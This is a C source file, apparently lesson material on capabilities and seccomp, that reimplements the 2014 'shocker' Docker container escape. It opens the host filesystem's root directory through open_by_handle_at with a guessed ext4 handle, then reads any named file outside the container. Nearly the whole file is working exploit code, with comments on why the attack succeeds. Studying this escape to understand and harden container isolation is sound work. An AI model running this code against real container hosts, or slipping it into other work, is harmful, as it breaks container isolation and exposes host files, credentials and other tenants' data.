/*
 * shocker: the 2014 Docker escape through open_by_handle_at(2), for the capabilities-and-seccomp
 * lesson.
 *
 *   usage: shocker [--handle TYPE:HEX] MOUNT_PATH FILE      open a directory by handle, read FILE in it
 *          shocker --handle-of PATH                         print PATH's handle (name_to_handle_at)
 *
 * A file handle names an inode by numbers only (for ext4: inode number and generation), not by
 * path. open_by_handle_at(mount_fd, handle, flags) opens that inode on the filesystem mount_fd
 * lives on, wherever it is: nothing checks that it lies below the caller's root or below the
 * mount mount_fd came from. That is why it needs CAP_DAC_READ_SEARCH (a capability Docker gave
 * containers until 2014). Any fd on a bind-mounted host directory is a good enough mount_fd; the
 * handle is the only thing to guess, and for the root directory of an ext4 filesystem it is
 * always the same: inode 2, generation 0, type FILEID_INO32_GEN (1), 8 bytes. That is the
 * default here, as it was in shocker.c. Other filesystems (tmpfs) put a random generation in
 * their handles; then the handle must be known (--handle), e.g. from --handle-of on the host.
 *
 * Once the directory is open, openat(dir_fd, FILE) walks down from it as from any directory:
 * the process now reads files its root never contained. Built static: it runs inside a root
 * filesystem with no libraries.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* The kernel's MAX_HANDLE_SZ. */
#define HANDLE_MAX 128
#define EXT4_ROOT_GUESS "1:0200000000000000"

static const char *errno_name(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EACCES: return "EACCES";
    case EBADF: return "EBADF";
    case EINVAL: return "EINVAL";
    case ESTALE: return "ESTALE";
    case ENOTDIR: return "ENOTDIR";
    case ENOSYS: return "ENOSYS";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case EOVERFLOW: return "EOVERFLOW";
    case ELOOP: return "ELOOP";
    default: return "errno";
  }
}

/* strace's way of showing a failed call: "= -1 EPERM (Operation not permitted)". */
static int failed(const char *call, int e) {
  fprintf(stderr, "shocker: %s = -1 %s (%s)\n", call, errno_name(e), strerror(e));
  return 1;
}

static void hex(const unsigned char *b, unsigned n, char *out) {
  for (unsigned i = 0; i < n; i++) sprintf(out + 2 * i, "%02x", b[i]);
  out[2 * n] = 0;
}

/* "TYPE:HEX" -> a struct file_handle; 0 if malformed. */
static struct file_handle *parse_handle(const char *s) {
  char *end;
  errno = 0;
  long type = strtol(s, &end, 10);
  if (errno || end == s || *end != ':' || type < 0 || type > 255) return NULL;
  const char *h = end + 1;
  size_t len = strlen(h);
  if (len == 0 || len % 2 || len / 2 > HANDLE_MAX) return NULL;
  struct file_handle *fh = calloc(1, sizeof *fh + HANDLE_MAX);
  if (!fh) return NULL;
  fh->handle_type = (int)type;
  fh->handle_bytes = (unsigned)(len / 2);
  for (size_t i = 0; i < len / 2; i++) {
    unsigned v;
    char pair[3] = {h[2 * i], h[2 * i + 1], 0};
    if (sscanf(pair, "%2x", &v) != 1 || !strchr("0123456789abcdefABCDEF", pair[0]) || !strchr("0123456789abcdefABCDEF", pair[1])) {
      free(fh);
      return NULL;
    }
    fh->f_handle[i] = (unsigned char)v;
  }
  return fh;
}

static int handle_of(const char *path) {
  struct file_handle *fh = calloc(1, sizeof *fh + HANDLE_MAX);
  if (!fh) return 1;
  fh->handle_bytes = HANDLE_MAX;
  int mount_id;
  char call[600];
  snprintf(call, sizeof call, "name_to_handle_at(AT_FDCWD, \"%s\", …)", path);
  if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) != 0) return failed(call, errno);
  char h[2 * HANDLE_MAX + 1];
  hex(fh->f_handle, fh->handle_bytes, h);
  printf("%s = 0: type %d, %u bytes, handle %d:%s\n", call, fh->handle_type, fh->handle_bytes, fh->handle_type, h);
  return 0;
}

/* The names in an open directory, on one line (at most ~400 characters). */
static void list_dir(int dirfd) {
  int fd = dup(dirfd);
  if (fd < 0) return;
  DIR *d = fdopendir(fd);
  if (!d) {
    close(fd);
    return;
  }
  char line[512];
  size_t len = 0;
  int n = 0;
  struct dirent *e;
  line[0] = 0;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.') continue;
    size_t l = strlen(e->d_name);
    if (len + l + 2 >= sizeof line - 8) {
      strcpy(line + len, " …");
      break;
    }
    len += (size_t)snprintf(line + len, sizeof line - len, "%s%s", n++ ? " " : "", e->d_name);
  }
  closedir(d);
  printf("shocker: the directory it opened holds: %s\n", line);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "--handle-of") == 0) return handle_of(argv[2]);

  const char *spec = EXT4_ROOT_GUESS;
  int guessed = 1;
  int i = 1;
  if (i + 1 < argc && strcmp(argv[i], "--handle") == 0) {
    spec = argv[i + 1];
    guessed = 0;
    i += 2;
  }
  if (i + 2 != argc) {
    fprintf(stderr, "usage: shocker [--handle TYPE:HEX] MOUNT_PATH FILE\n       shocker --handle-of PATH\n");
    return 2;
  }
  const char *mount_path = argv[i];
  const char *file = argv[i + 1];
  struct file_handle *fh = parse_handle(spec);
  if (!fh) {
    fprintf(stderr, "shocker: bad handle \"%.80s\": give TYPE:HEX, e.g. %s\n", spec, EXT4_ROOT_GUESS);
    return 2;
  }
  char h[2 * HANDLE_MAX + 1];
  hex(fh->f_handle, fh->handle_bytes, h);
  if (guessed) printf("shocker: no handle given: guessing an ext4 root directory (inode 2, generation 0)\n");

  char call[700];
  int mount_fd = open(mount_path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  snprintf(call, sizeof call, "open(\"%s\", O_RDONLY|O_DIRECTORY)", mount_path);
  if (mount_fd < 0) return failed(call, errno);
  printf("shocker: %s = %d: any fd on the filesystem will do as mount_fd\n", call, mount_fd);

  snprintf(call, sizeof call, "open_by_handle_at(%d, {handle_type=%d, handle_bytes=%u, f_handle=%s}, O_RDONLY|O_DIRECTORY)", mount_fd,
           fh->handle_type, fh->handle_bytes, h);
  int dir = open_by_handle_at(mount_fd, fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0) return failed(call, errno);
  printf("shocker: %s = %d\n", call, dir);
  list_dir(dir);

  snprintf(call, sizeof call, "openat(%d, \"%s\", O_RDONLY)", dir, file);
  int fd = openat(dir, file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return failed(call, errno);
  printf("shocker: %s = %d; it reads:\n", call, fd);
  char buf[4096];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  if (n < 0) return failed("read", errno);
  buf[n] = 0;
  fputs(buf, stdout);
  if (n > 0 && buf[n - 1] != '\n') putchar('\n');
  return 0;
}
